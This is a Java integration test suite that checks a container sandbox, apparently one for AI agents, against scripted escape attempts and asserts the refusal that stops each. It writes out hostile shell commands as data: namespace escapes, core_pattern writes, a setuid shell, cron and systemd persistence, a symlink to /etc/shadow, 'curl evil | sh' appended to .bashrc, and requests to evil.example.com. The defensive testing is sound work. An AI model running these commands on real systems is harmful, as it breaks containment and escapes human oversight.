package org.lobstertrap.puzzlepod.it.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import com.fasterxml.jackson.databind.JsonNode;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.lobstertrap.puzzlepod.it.GovernedStack;
import org.lobstertrap.puzzlepod.it.TreeSnapshot;

/**
 * Escape attempts from inside governed containers (real podman + runc, the real puzzled and hooks,
 * {@code puzzle-podman} with the shipped {@code restricted} and {@code standard} profiles), each with the
 * exact outcome that stops it: the errno busybox or a static syscall probe prints (EACCES from Landlock,
 * EPERM from puzzled's seccomp supervisor with its {@code seccomp.decision} record, or the kernel's own),
 * the proxy's refusal and its audit record, or the commit rule that rejects the changeset. {@code it/SECURITY.md} is the table.
 * One stack serves the class; each container runs many attempts in turn.
 */
@Tag("slow")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class EscapeSuiteTest {
    // puzzle-podman's exit codes (podman-wrapper/README.md)
    private static final int REJECTED = 70, ROLLED_BACK = 71;
    private static final String EPERM_TEXT = "Operation not permitted";
    private static final String SECCOMP = "seccomp (podman default profile)";
    private static final String NO_CAP = "capability not granted (podman default set)";
    private static final String RO_PROC = "read-only /proc/sys and /sys mounts";
    /** The probe under a name on restricted's exec_allowlist. */
    private static final String PROBE_AS_CAT = "/tmp/bin/cat";
    private static final String LANDLOCK_READ = "Landlock: outside read_allowlist (EACCES)";
    private static final String LANDLOCK_WRITE = "Landlock: outside write_allowlist (EACCES)";
    private static final String NOT_ALLOWLISTED = "seccomp supervisor: not in restricted's exec_allowlist (EPERM + seccomp.decision)";
    private static final String DENYLISTED = "seccomp supervisor: exec_denylist (EPERM + seccomp.decision)";
    private static final String KERNEL_DENIED = "governed seccomp profile: denied in the kernel (GovernedSeccomp's denials)";
    private static final String IN_WRITABLE = "seccomp supervisor: a basename entry allows no file in a writable location (EPERM + seccomp.decision)";
    /** restricted plus the probe's full path on its exec_allowlist (a test profile: the probe's own calls under restricted). */
    private static final String RESTRICTED_PROBE = "restricted-probe";

    private Path dir;
    private GovernedStack stack;
    private Path probe;
    /** The shipped profiles' exec rules, read from profiles/*.yaml. */
    private Attempt.Gate restrictedGate, standardGate;
    private int bases;

    @BeforeAll
    void start(@TempDir Path dir) throws Exception {
        this.dir = dir;
        probe = SyscallProbe.build(dir.resolve("probe"));
        restrictedGate = Attempt.Gate.ofProfile(Path.of("..", "profiles", "restricted.yaml"), NOT_ALLOWLISTED, DENYLISTED);
        standardGate = Attempt.Gate.ofProfile(Path.of("..", "profiles", "standard.yaml"), NOT_ALLOWLISTED, DENYLISTED);
        stack = GovernedStack.start(Files.createDirectories(dir.resolve("stack")));
    }

    @AfterAll
    void stop() {
        if (stack != null) stack.close();
    }

    /** A fresh base directory holding a README and the syscall probe under tools/. */
    private Path newBase(String name) throws Exception {
        Path base = Files.createDirectories(dir.resolve("base-" + name + "-" + (bases++)));
        Files.writeString(base.resolve("README.md"), "the project\n");
        Path tools = Files.createDirectories(base.resolve("tools"));
        Files.copy(probe, tools.resolve("syscall-probe"));
        return base;
    }

    private GovernedStack.Result run(String profile, Path base, String script, String... wrapperOptions) throws Exception {
        List<String> args = new ArrayList<>(List.of("--profile", profile, "--base", base.toString()));
        args.addAll(List.of(wrapperOptions));
        args.addAll(List.of("--rm", "--name", stack.containerName(), GovernedStack.IMAGE, "sh", "-c", script));
        int hooks = stack.hookRuns();
        GovernedStack.Result r = stack.puzzlePodmanRun(args);
        // the attempts meet the containment puzzle-podman asks of podman directly, not the hook's
        assertThat(stack.hookRuns()).as("precreate hook runs for a puzzle-podman run").isEqualTo(hooks);
        return r;
    }

    /**
     * The kernel attempts, under either profile. Busybox applets that the shell re-executes (through
     * {@code /proc/self/exe}) pass the seccomp supervisor first: under {@code restricted} every one outside
     * the exec allowlist, and under both profiles every one on the exec denylist, is refused there with
     * EPERM before the syscall it meant to try; the probe itself is refused under {@code restricted}. Applets
     * busybox runs without an exec (NOEXEC: umount, pivot_root, chroot, insmod, date, hostname, mknod, ip, …)
     * never meet the supervisor and still reach the kernel. Under {@code standard}, {@link #standardOnly}
     * covers each refused applet's original mechanism through {@code busybox APPLET} and the probe.
     */
    private List<Attempt> kernelAttempts(Path base, String profile) {
        boolean restricted = profile.equals("restricted");
        String host = base.toString();
        Attempt.Gate gate = restricted ? restrictedGate : standardGate;
        return List.of(
                gate.applet("mount", Attempt.of("mount tmpfs", "mount -t tmpfs none /tmp", NO_CAP + " (CAP_SYS_ADMIN)",
                        "mount: permission denied (are you root?)")),
                gate.probe(Attempt.syscall("mount", "EPERM", NO_CAP + " (CAP_SYS_ADMIN)")),
                Attempt.of("umount the workspace", "umount /workspace", NO_CAP + " (umount is NOEXEC: no exec for the supervisor to refuse)",
                        "umount: can't unmount /workspace: " + EPERM_TEXT),
                Attempt.of("lazy umount of /", "umount -l /", NO_CAP, "umount: can't unmount /: " + EPERM_TEXT),
                gate.probe(Attempt.syscall("umount", "EPERM", NO_CAP)),
                Attempt.exactly("pivot_root", "pivot_root /tmp /tmp", NO_CAP + " (NOEXEC applet)", "pivot_root: (null): " + EPERM_TEXT),
                gate.probe(Attempt.syscall("pivot_root", "EPERM", NO_CAP)),
                gate.applet("unshare", Attempt.of("unshare mount ns", "unshare -m true", NO_CAP, "unshare: unshare(0x20000): " + EPERM_TEXT)),
                gate.applet("unshare", Attempt.of("unshare net ns", "unshare -n true", NO_CAP, "unshare: unshare(0x40000000): " + EPERM_TEXT)),
                gate.probe(Attempt.syscall("unshare-mnt", "EPERM", NO_CAP + " (CAP_SYS_ADMIN)")),
                gate.probe(Attempt.syscall("unshare-net", "EPERM", NO_CAP + " (CAP_SYS_ADMIN)")),
                gate.probe(Attempt.syscall("userns-remount", "EPERM", KERNEL_DENIED + " (unshare(CLONE_NEWUSER|CLONE_NEWNS) itself)")),
                gate.applet("unshare", Attempt.of("userns core_pattern", "unshare -U -r sh -c 'echo x > /proc/sys/kernel/core_pattern'", RO_PROC,
                        "can't create /proc/sys/kernel/core_pattern: Read-only file system")),
                gate.applet("nsenter", Attempt.of("nsenter pid 1 mnt", "nsenter -t 1 -m true", NO_CAP,
                        "nsenter: setns(): can't reassociate to namespace 'mnt': " + EPERM_TEXT)),
                gate.applet("nsenter", Attempt.of("nsenter pid 1 net", "nsenter -t 1 -n true", NO_CAP,
                        "nsenter: setns(): can't reassociate to namespace 'net': " + EPERM_TEXT)),
                gate.probe(Attempt.syscall("setns", "EPERM", NO_CAP)),
                // from /workspace: Landlock refuses to open "/" (not in read_allowlist), the break-out needs an fd
                gate.probe(Attempt.exactly("chroot escape", "cd /workspace && " + EscapeRun.PROBE + " chroot-escape:" + host,
                        "the container's own mount namespace (pivot_root by runc)", "chroot-escape workspace=present host=ENOENT")),
                Attempt.of("chroot into /proc/1/root", "chroot /proc/1/root ls /workspace/tools " + host,
                        "/proc/1 is the container's init (chroot is NOEXEC: the denylist does not see it)",
                        "syscall-probe", "ls: " + host + ": No such file or directory"),
                gate.probe(Attempt.exactly("ptrace the container init", EscapeRun.PROBE + " ptrace:1", KERNEL_DENIED, "ptrace EPERM")),
                gate.probe(Attempt.exactly("ptrace puzzled", EscapeRun.PROBE + " ptrace:" + stack.puzzledPid(),
                        KERNEL_DENIED + " (before the pid namespace, where host pids do not exist, is even asked)", "ptrace EPERM")),
                gate.probe(Attempt.syscall("bpf", "EPERM", NO_CAP + " (CAP_BPF/CAP_SYS_ADMIN)")),
                gate.probe(Attempt.syscall("io_uring", "ENOSYS", SECCOMP)),
                gate.probe(Attempt.syscall("add_key", "EPERM", KERNEL_DENIED)),
                gate.probe(Attempt.syscall("request_key", "EPERM", KERNEL_DENIED)),
                gate.probe(Attempt.syscall("keyctl", "EPERM", KERNEL_DENIED)),
                gate.probe(Attempt.syscall("userfaultfd", "EPERM", KERNEL_DENIED)),
                gate.probe(Attempt.syscall("process_vm_readv:1", "EPERM", KERNEL_DENIED)),
                gate.probe(Attempt.syscall("process_vm_writev:1", "EPERM", KERNEL_DENIED)),
                gate.probe(Attempt.syscall("pidfd_getfd:1", "EPERM", KERNEL_DENIED)),
                gate.probe(Attempt.syscall("kcmp:1", "EPERM", KERNEL_DENIED)),
                gate.probe(Attempt.syscall("unshare-user", "EPERM", KERNEL_DENIED + " (CLONE_NEWUSER)")),
                gate.probe(Attempt.syscall("clone-userns", "EPERM", KERNEL_DENIED + " (clone with CLONE_NEWUSER)")),
                gate.probe(Attempt.syscall("clone3", "ENOSYS", KERNEL_DENIED + " (clone3: flags unreadable to seccomp; libc falls back to clone)")),
                gate.probe(Attempt.syscall("clone-fork", "OK", "nothing: a clone without namespace flags (fork) still works")),
                gate.probe(Attempt.syscall("perf_event_open", "EPERM", SECCOMP)),
                gate.probe(Attempt.syscall("kexec_load", "EPERM", SECCOMP)),
                gate.probe(Attempt.syscall("kexec_file_load", "EPERM", SECCOMP)),
                gate.probe(Attempt.syscall("init_module", "EPERM", SECCOMP)),
                gate.probe(Attempt.syscall("finit_module", "EPERM", SECCOMP)),
                Attempt.of("insmod", "insmod " + EscapeRun.PROBE, SECCOMP + " (insmod is NOEXEC: the denylist does not see it)",
                        "insmod: can't insert '" + EscapeRun.PROBE + "': " + EPERM_TEXT),
                gate.probe(Attempt.syscall("reboot", "EPERM", SECCOMP)),
                gate.applet("reboot", Attempt.of("reboot -f", "reboot -f", SECCOMP, "reboot: ", EPERM_TEXT)),
                gate.applet("poweroff", Attempt.of("poweroff -f", "poweroff -f", SECCOMP, "poweroff: ", EPERM_TEXT)),
                gate.probe(Attempt.syscall("settimeofday", "EPERM", SECCOMP)),
                gate.probe(Attempt.syscall("clock_settime", "EPERM", SECCOMP)),
                Attempt.of("date -s", "date -s 2000-01-01", SECCOMP, "date: can't set date: " + EPERM_TEXT),
                gate.applet("hwclock", Attempt.of("hwclock", "hwclock -r", "no /dev/rtc in the container",
                        "hwclock: can't open '/dev/misc/rtc': No such file or directory")),
                gate.probe(Attempt.syscall("open_by_handle_at", "EPERM", NO_CAP + " (CAP_DAC_READ_SEARCH)")),
                gate.probe(Attempt.syscall("swapon", "EPERM", SECCOMP)),
                gate.probe(Attempt.syscall("sethostname", "EPERM", NO_CAP)),
                Attempt.of("hostname", "hostname escaped", NO_CAP, "hostname: sethostname: " + EPERM_TEXT),
                gate.probe(Attempt.syscall("raw-socket", "EPERM", NO_CAP + " (CAP_NET_RAW)")),
                gate.probe(Attempt.syscall("packet-socket", "EPERM", NO_CAP + " (CAP_NET_RAW)")),
                gate.applet("ping", Attempt.of("ping (raw ICMP)", "ping -c 1 -W 1 127.0.0.1", NO_CAP + " (CAP_NET_RAW)",
                        "ping: permission denied (are you root?)")),
                Attempt.of("sysctl -w", "sysctl -w kernel.hostname=escaped", RO_PROC,
                        "sysctl: error setting key 'kernel.hostname': Read-only file system"),
                Attempt.of("write core_pattern", "echo '|/workspace/x' > /proc/sys/kernel/core_pattern", RO_PROC,
                        "can't create /proc/sys/kernel/core_pattern: Read-only file system"),
                Attempt.of("write /sys", "echo 1 > /sys/kernel/mm/ksm/run", RO_PROC, "can't create /sys/kernel/mm/ksm/run: Read-only file system"),
                Attempt.of("raise pids.max", "echo max > /sys/fs/cgroup/pids/pids.max", "read-only cgroup mount",
                        "can't create /sys/fs/cgroup/pids/pids.max: Read-only file system"),
                Attempt.exactly("read /proc/kcore", "dd if=/proc/kcore bs=4096 count=1 2>/dev/null | wc -c", "masked by podman (/dev/null bound over it)", "0"),
                Attempt.of("read /dev/mem", "dd if=/dev/mem bs=1 count=1", "no host devices in the container",
                        "dd: can't open '/dev/mem': No such file or directory"),
                Attempt.of("mknod block device", "mknod /tmp/sda b 8 0", NO_CAP + " (CAP_MKNOD)", "mknod: /tmp/sda: " + EPERM_TEXT),
                Attempt.of("mknod in the workspace", "mknod /workspace/mem c 1 1", NO_CAP + " (CAP_MKNOD)", "mknod: /workspace/mem: " + EPERM_TEXT),
                Attempt.of("/proc/1/root to the host", "readlink /proc/1/root; ls /proc/1/root/workspace/tools; ls /proc/1/root" + host,
                        "pid 1 is the container's init; its root is the container's", "/\nsyscall-probe\n",
                        "ls: /proc/1/root" + host + ": No such file or directory"),
                Attempt.of("write the base by its host path", "echo x > " + host + "/README.md", "the host path does not exist in the container",
                        "can't create " + host + "/README.md: nonexistent directory"),
                // no sleep: SIGKILL from inside is dropped when sent, and sleep is not on restricted's allowlist
                Attempt.exactly("kill the container init", "kill -9 1; kill -0 1 && echo init-alive",
                        "pid 1 of a pid namespace ignores SIGKILL from inside", "init-alive"),
                Attempt.of("ip link down", "ip link set lo down", NO_CAP + " (CAP_NET_ADMIN)", "ip: SIOCSIFFLAGS: " + EPERM_TEXT),
                Attempt.of("ip route add", "ip route add 1.2.3.0/24 dev lo", NO_CAP + " (CAP_NET_ADMIN)", "ip: RTNETLINK answers: " + EPERM_TEXT),
                // Landlock, both profiles: / and /root are in no read_allowlist, /etc in no write_allowlist
                Attempt.exactly("list / (outside the read allowlist)", "ls /", LANDLOCK_READ, "ls: can't open '/': Permission denied"),
                Attempt.exactly("list /root (outside the read allowlist)", "ls /root", LANDLOCK_READ, "ls: can't open '/root': Permission denied"),
                Attempt.exactly("write /etc (outside the workspace)", "echo x > /etc/escaped", LANDLOCK_WRITE,
                        "sh: can't create /etc/escaped: Permission denied"),
                Attempt.exactly("mkdir at / (outside the workspace)", "mkdir /escaped", LANDLOCK_WRITE,
                        "mkdir: can't create directory '/escaped': Permission denied"),
                Attempt.exactly("read the profile's pids.max", "cat /sys/fs/cgroup/pids/pids.max", LANDLOCK_READ + " (/sys)",
                        "cat: can't open '/sys/fs/cgroup/pids/pids.max': Permission denied"));
    }

    /** Runs the attempts in one governed container, auto-committed: nothing they do reaches the base. */
    private Stream<DynamicTest> runAttempts(String profile, Path base, List<Attempt> attempts, List<DynamicTest> more) throws Exception {
        TreeSnapshot before = TreeSnapshot.of(base);
        GovernedStack.Result r = run(profile, base, EscapeRun.script(attempts), "--auto-commit");
        assertThat(r.status()).as(r.both()).isZero();
        Map<String, String> outputs = EscapeRun.outputs(attempts, r.out());
        JsonNode branch = stack.onlyBranchOf(base);
        String container = branch.path("container_id").asText();
        List<DynamicTest> tests = new ArrayList<>();
        for (Attempt a : attempts) {
            tests.add(dynamicTest(profile + ": " + a.id() + " → " + String.join(" … ", a.expected()), () -> {
                String out = outputs.get(a.id());
                assertThat(out).as("output of '" + a.command() + "' (the script died before it?)\n" + r.both()).isNotNull();
                if (a.exact()) assertThat(out.strip()).as(a.command()).isEqualTo(a.expected().getFirst());
                else for (String e : a.expected()) assertThat(out).as(a.command()).contains(e);
            }));
        }
        if (outputs.containsKey("keyring"))
            tests.add(dynamicTest(profile + ": keyctl reaches no keyring, not even the container's own", () ->
                    assertThat(outputs.get("keyring").strip()).as(r.both()).isEqualTo("keyring EPERM")));
        tests.add(dynamicTest(profile + ": the host is fine: puzzled is alive and answers", () -> {
            assertThat(stack.puzzledAlive()).as(stack.puzzledStderr()).isTrue();
            assertThat(stack.call(c -> c.status()).path("policy").path("loaded").asBoolean()).isTrue();
        }));
        tests.add(dynamicTest(profile + ": the base is untouched and the branch committed nothing", () -> {
            assertThat(TreeSnapshot.of(base)).isEqualTo(before);
            assertThat(branch.path("state").asText()).as(branch.toString()).isEqualTo("committed");
        }));
        tests.addAll(more);
        return tests.stream();
    }

    private static Attempt keyring(String probe) {
        return Attempt.exactly("keyring", probe + " keyring", KERNEL_DENIED + " (keyctl)", "keyring EPERM");
    }

    /** The audit check: a seccomp.decision refusing {@code syscall} whose subject contains {@code subject}. */
    private DynamicTest refusalAudited(String profile, Path base, String syscall, String subject, String reason) {
        return dynamicTest(profile + ": seccomp.decision refuses " + syscall + " of " + subject, () -> {
            String branch = stack.onlyBranchOf(base).path("id").asText();
            List<JsonNode> decisions = stack.auditEvents(branch, "seccomp.decision");
            assertThat(decisions).as("seccomp.decision records of " + branch).anySatisfy(e -> {
                JsonNode d = e.path("data");
                assertThat(d.path("allowed").asBoolean(true)).isFalse();
                assertThat(d.path("syscall").asText()).isEqualTo(syscall);
                assertThat(d.path("subject").asText()).contains(subject);
                assertThat(d.path("reason").asText()).contains(reason);
            });
        });
    }

    @TestFactory
    Stream<DynamicTest> restrictedProfile() throws Exception {
        Path base = newBase("restricted");
        List<Attempt> attempts = new ArrayList<>(kernelAttempts(base, "restricted"));
        // a copy under an allowlisted name is still a copy: it lies in a writable location
        attempts.add(Attempt.exactly("the probe copied as cat", "mkdir -p /tmp/bin && cp " + EscapeRun.PROBE + " " + PROBE_AS_CAT
                + " && " + PROBE_AS_CAT + " mount", IN_WRITABLE, "sh: " + PROBE_AS_CAT + ": " + EPERM_TEXT));
        attempts.add(Attempt.exactly("busybox copied into the workspace as cat", "cp /bin/busybox /workspace/cat && /workspace/cat /dev/null; rm -f /workspace/cat",
                IN_WRITABLE, "sh: /workspace/cat: " + EPERM_TEXT));
        attempts.add(Attempt.exactly("a symlink in /tmp named cat to busybox", "ln -s /bin/busybox /tmp/cat && /tmp/cat /dev/null",
                "seccomp supervisor: a link in a writable location counts as the file it reaches (busybox: not allowlisted)",
                "sh: /tmp/cat: " + EPERM_TEXT));
        attempts.add(Attempt.exactly("exec a binary outside the allowlist", "/bin/busybox true", NOT_ALLOWLISTED,
                "sh: /bin/busybox: " + EPERM_TEXT));
        attempts.add(Attempt.exactly("exec an applet outside the allowlist", "sleep 0", NOT_ALLOWLISTED, "sh: sleep: " + EPERM_TEXT));
        attempts.add(Attempt.exactly("exec through a symlink", "ln -s " + EscapeRun.PROBE + " /tmp/probe-link && /tmp/probe-link mount",
                NOT_ALLOWLISTED, "sh: /tmp/probe-link: " + EPERM_TEXT));
        attempts.add(Attempt.exactly("exec through /proc/self/exe", "/proc/self/exe sleep 0", NOT_ALLOWLISTED,
                "sh: /proc/self/exe: " + EPERM_TEXT));
        attempts.add(Attempt.exactly("read /etc (outside the read allowlist)", "cat /etc/hosts", LANDLOCK_READ,
                "cat: can't open '/etc/hosts': Permission denied"));
        attempts.add(Attempt.exactly("connect to a raw IP", "nc -w 3 1.1.1.1 443", DENYLISTED, "sh: nc: " + EPERM_TEXT));
        attempts.add(Attempt.exactly("HTTP to an allowlisted name's address", "wget -q -O- --header 'Host: pypi.org' http://151.101.0.223/",
                DENYLISTED, "sh: wget: " + EPERM_TEXT));
        attempts.add(Attempt.of("memory hog in a child", "dd if=/dev/zero of=/dev/null bs=768M count=1; echo agent-survived",
                "memory cgroup (memory_bytes 256 MiB): the OOM killer takes the hog", "Killed", "agent-survived"));
        // last: the fork bomb's subshell dies on the first failed fork (its sleep children are refused at exec)
        attempts.add(Attempt.of("fork bomb", "( i=0; while [ $i -lt 100 ]; do sleep 2 & i=$((i+1)); done ); echo container-survived",
                "pids cgroup (max_pids 32)", "can't fork: Resource temporarily unavailable", "container-survived"));
        return runAttempts("restricted", base, attempts, List.of(
                refusalAudited("restricted", base, "execve", "syscall-probe", "not in exec_allowlist"),
                refusalAudited("restricted", base, "execve", PROBE_AS_CAT, "writable location /tmp"),
                refusalAudited("restricted", base, "execve", "/workspace/cat", "writable location /workspace"),
                refusalAudited("restricted", base, "execve", "/proc/self/exe", "not in exec_allowlist")));
    }

    /**
     * {@code restricted} with the probe's full path on the allowlist: the probe runs (a full-path entry allows
     * exactly that file, even in the workspace), and what it does after the exec meets the rest: the
     * supervisor's exec rules for execveat and memfd, Blocked for connect, the kernel denials; a copy of it
     * elsewhere does not run.
     */
    @TestFactory
    Stream<DynamicTest> restrictedWithTheProbesFullPath() throws Exception {
        Path profile = stack.profilesDir().resolve(RESTRICTED_PROBE + ".yaml");
        String shipped = Files.readString(Path.of("..", "profiles", "restricted.yaml"));
        Files.writeString(profile, shipped.replace("name: restricted", "name: " + RESTRICTED_PROBE)
                .replace("exec_allowlist: [", "exec_allowlist: [" + EscapeRun.PROBE + ", "));
        stack.call(c -> c.reloadPolicy());
        Path base = newBase(RESTRICTED_PROBE);
        String p = EscapeRun.PROBE;
        List<Attempt> attempts = List.of(
                Attempt.exactly("the listed probe runs", p + " mount", "full-path entry; then " + NO_CAP + " (CAP_SYS_ADMIN)", "mount EPERM"),
                keyring(p),
                Attempt.exactly("ptrace the container init", p + " ptrace:1", KERNEL_DENIED, "ptrace EPERM"),
                Attempt.exactly("new user namespace", p + " unshare-user", KERNEL_DENIED, "unshare-user EPERM"),
                Attempt.exactly("execveat of an fd", p + " execveat:/bin/busybox", NOT_ALLOWLISTED, "execveat EPERM"),
                Attempt.exactly("execveat of a memfd copy named cat", p + " memfd-exec:/bin/busybox",
                        "seccomp supervisor: an fd without a path cannot be resolved, so no basename entry allows it", "memfd-exec EPERM"),
                Attempt.exactly("connect to a raw IP (probe)", p + " connect:1.1.1.1:443",
                        "Blocked: seccomp supervisor refuses connect (seccomp.decision)", "connect EPERM"),
                Attempt.exactly("a copy of the listed probe", "cp " + p + " /workspace/tools/cat && /workspace/tools/cat mount; rm -f /workspace/tools/cat",
                        "seccomp supervisor: the full-path entry names that file only", "sh: /workspace/tools/cat: " + EPERM_TEXT),
                Attempt.exactly("a symlink to the listed probe", "ln -s " + p + " /tmp/p && /tmp/p mount",
                        "the link reaches the listed file; then " + NO_CAP, "mount EPERM"),
                Attempt.exactly("an allowlisted applet", "cat /workspace/README.md",
                        "allowed: the shell's re-exec of the image's busybox (/proc/self/exe) with argv[0] cat", "the project"));
        return runAttempts(RESTRICTED_PROBE, base, attempts, List.of(
                refusalAudited(RESTRICTED_PROBE, base, "execveat", "busybox", "not in exec_allowlist"),
                refusalAudited(RESTRICTED_PROBE, base, "execveat", "memfd:", "cannot be resolved"),
                refusalAudited(RESTRICTED_PROBE, base, "execve", "/workspace/tools/cat", "writable location /workspace"),
                refusalAudited(RESTRICTED_PROBE, base, "connect", "1.1.1.1", "")));
    }

    /**
     * Under {@code standard}: the original mechanism behind each denylisted applet (reached through
     * {@code busybox APPLET}, which the name-based denylist does not see), the denylist against a copy, a
     * symlink and execveat, and the supervisor's connect rule.
     */
    private static List<Attempt> standardOnly() {
        String nsenterCopy = "cp /bin/busybox /workspace/nsenter && ";
        return List.of(
                Attempt.of("busybox mount", "busybox mount -t tmpfs none /tmp", NO_CAP + " (CAP_SYS_ADMIN; denylist bypassed by name)",
                        "mount: permission denied (are you root?)"),
                Attempt.exactly("busybox unshare mount ns", "busybox unshare -m true", NO_CAP, "unshare: unshare(0x20000): " + EPERM_TEXT),
                Attempt.exactly("busybox unshare net ns", "busybox unshare -n true", NO_CAP, "unshare: unshare(0x40000000): " + EPERM_TEXT),
                Attempt.exactly("busybox userns core_pattern", "busybox unshare -U -r sh -c 'echo x > /proc/sys/kernel/core_pattern'",
                        KERNEL_DENIED + " (CLONE_NEWUSER)", "unshare: unshare(0x10000000): " + EPERM_TEXT),
                Attempt.exactly("busybox nsenter pid 1 mnt", "busybox nsenter -t 1 -m true", NO_CAP,
                        "nsenter: setns(): can't reassociate to namespace 'mnt': " + EPERM_TEXT),
                Attempt.exactly("denylisted name copied into the workspace", nsenterCopy + "/workspace/nsenter -t 1 -m true; rm -f /workspace/nsenter",
                        DENYLISTED, "sh: /workspace/nsenter: " + EPERM_TEXT),
                Attempt.exactly("denylisted name as a symlink", "ln -s /bin/busybox /tmp/nsenter && /tmp/nsenter -t 1 -m true", DENYLISTED,
                        "sh: /tmp/nsenter: " + EPERM_TEXT),
                Attempt.exactly("execveat of a denylisted copy", nsenterCopy + EscapeRun.PROBE + " execveat:/workspace/nsenter; rm -f /workspace/nsenter",
                        DENYLISTED, "execveat EPERM"),
                Attempt.exactly("connect to a raw IP", "nc -w 3 1.1.1.1 22", "Gated: seccomp supervisor refuses connect (seccomp.decision)",
                        "nc: can't connect to remote host (1.1.1.1): " + EPERM_TEXT),
                Attempt.exactly("connect to a raw IP (probe)", EscapeRun.PROBE + " connect:1.1.1.1:22",
                        "Gated: seccomp supervisor refuses connect (seccomp.decision)", "connect EPERM"));
    }

    @TestFactory
    Stream<DynamicTest> standardProfile() throws Exception {
        Path base = newBase("standard");
        List<Attempt> attempts = new ArrayList<>(kernelAttempts(base, "standard"));
        attempts.add(keyring(EscapeRun.PROBE));
        attempts.addAll(standardOnly());
        attempts.add(Attempt.of("non-allowlisted name through the proxy", "wget -q -O- --header 'Host: evil.example.com' http://93.184.216.34/",
                "Gated: allowlisting proxy (403 + network.decision audit)", "wget: server returned error: HTTP/1.1 403 Forbidden"));
        attempts.add(Attempt.of("resolve a non-allowlisted name", "nslookup evil.example.com", "Gated: DNS filter", "NXDOMAIN"));
        attempts.add(Attempt.exactly("IPv6 connect", "nc -w 3 2001:4860:4860::8888 443", "Gated: seccomp supervisor refuses connect",
                "nc: can't connect to remote host: " + EPERM_TEXT));
        DynamicTest audited = dynamicTest("standard: the proxy's refusal of evil.example.com is in the audit log", () -> {
            String branch = stack.onlyBranchOf(base).path("id").asText();
            List<JsonNode> denied = new ArrayList<>();
            for (JsonNode e : stack.auditEvents(branch, "network.decision")) {
                JsonNode d = e.path("data");
                if ("evil.example.com".equals(d.path("host").asText()) && !d.path("allowed").asBoolean(true)) denied.add(d);
            }
            assertThat(denied).as("network.decision records denying evil.example.com").isNotEmpty();
        });
        return runAttempts("standard", base, attempts, List.of(audited,
                refusalAudited("standard", base, "execve", "/workspace/nsenter", "nsenter"),
                refusalAudited("standard", base, "execve", "/tmp/nsenter", "nsenter"),
                refusalAudited("standard", base, "execveat", "nsenter", "nsenter"),
                refusalAudited("standard", base, "connect", "1.1.1.1", "")));
    }

    @Test
    void filesThatWouldEscapeAfterTheCommitAreRejectedByTheirRulesAndTheBaseKeepsItsBytes() throws Exception {
        Path base = newBase("commit");
        TreeSnapshot before = TreeSnapshot.of(base);
        GovernedStack.Result r = run("standard", base, """
                cd /workspace
                printf 'overwritten by the agent\\n' > README.md
                printf '#!/bin/sh\\nexec sh\\n' > suid-shell && chmod 4755 suid-shell
                printf 'x' > sgid-file && chmod 2755 sgid-file
                mkfifo pipe
                ln -s /etc/shadow shadow-link
                ln -s ../../../../etc/passwd up-link
                printf 'payload\\n' > payload && ln payload payload-link
                mkdir -p etc/cron.d etc/systemd/system .git/hooks
                printf '* * * * * root sh /x\\n' > etc/cron.d/agent
                printf '[Service]\\nExecStart=/x\\n' > etc/systemd/system/agent.service
                printf 'curl evil | sh\\n' >> .bashrc
                printf 'sh /x\\n' > .git/hooks/post-checkout
                cat README.md
                """, "--auto-commit");
        assertThat(r.status()).as(r.both()).isEqualTo(REJECTED);
        assertThat(r.out()).as("inside, the agent sees its own write").contains("overwritten by the agent");
        JsonNode branch = stack.onlyBranchOf(base);
        assertThat(branch.path("state").asText()).as(branch.toString()).isEqualTo("rolled-back");
        assertThat(branch.path("decision").path("outcome").asText()).isEqualTo("rejected");
        List<String> violations = new ArrayList<>();
        branch.path("decision").path("violations").forEach(v -> violations.add(v.path("rule").asText() + ": " + v.path("message").asText()));
        assertThat(violations).as(branch.toString()).contains(
                "setuid-setgid: suid-shell: setuid/setgid bit set (mode 4755)",
                "setuid-setgid: sgid-file: setuid/setgid bit set (mode 2755)",
                "special-file: pipe: fifo not allowed",
                "symlink-escape: shadow-link: symlink to absolute path /etc/shadow",
                "symlink-escape: up-link: symlink target ../../../../etc/passwd contains '..'",
                "persistence: etc/cron.d/agent: cron entry written",
                "persistence: .bashrc: shell startup file written");
        assertThat(violations).anyMatch(v -> v.startsWith("hardlink: payload") && v.contains("hard link (to "));
        assertThat(violations).anyMatch(v -> v.startsWith("persistence: etc/systemd/system/agent.service: "));
        assertThat(violations).anyMatch(v -> v.startsWith("persistence: .git/hooks/post-checkout: "));
        assertThat(TreeSnapshot.of(base)).isEqualTo(before);
        assertThat(base.resolve("README.md")).hasContent("the project");
        assertThat(stack.gateDecisions(branch.path("id").asText())).hasSize(1);
    }

    @Test
    void aMemoryBlowUpIsKilledAtTheProfilesLimitAndTheBranchRolledBack() throws Exception {
        Path base = newBase("oom");
        TreeSnapshot before = TreeSnapshot.of(base);
        // the agent itself (pid 1) takes a 768 MiB buffer against restricted's 256 MiB: the OOM killer ends the container
        GovernedStack.Result r = run("restricted", base,
                "printf 'half done\\n' > /workspace/partial.txt; exec dd if=/dev/zero of=/dev/null bs=768M count=1", "--auto-commit");
        assertThat(r.status()).as(r.both()).isEqualTo(ROLLED_BACK);
        JsonNode branch = stack.onlyBranchOf(base);
        assertThat(branch.path("state").asText()).as(branch.toString()).isEqualTo("rolled-back");
        assertThat(branch.path("decision").path("exit_code").asInt()).as(branch.toString()).isEqualTo(137);
        assertThat(TreeSnapshot.of(base)).isEqualTo(before);
        assertThat(stack.puzzledAlive()).as(stack.puzzledStderr()).isTrue();
    }
}
